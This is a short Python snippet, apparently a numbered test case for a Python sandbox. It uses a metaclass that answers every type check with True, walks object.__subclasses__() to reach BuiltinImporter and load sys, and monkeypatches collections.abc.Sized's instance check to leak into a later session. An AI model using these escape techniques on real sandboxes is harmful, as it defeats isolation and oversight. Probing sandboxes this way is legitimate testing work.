# c40: gain: a class check of the library answered by the guest
import abc, collections.abc, json
class Meta(abc.ABCMeta):
    def __instancecheck__(cls, x): return True
    def __subclasscheck__(cls, x): return True
class Any(metaclass=Meta): pass
reach(attempt(lambda: next(x for x in object.__subclasses__() if issubclass(x, Any) and x.__name__ == "BuiltinImporter").load_module("sys")))
try:
    collections.abc.Sized.__class__.__instancecheck__ = Meta.__instancecheck__
except Exception: pass
### second session
import collections.abc
if isinstance(3, collections.abc.Sized): print("GAIN: isinstance of another session answers falsely")
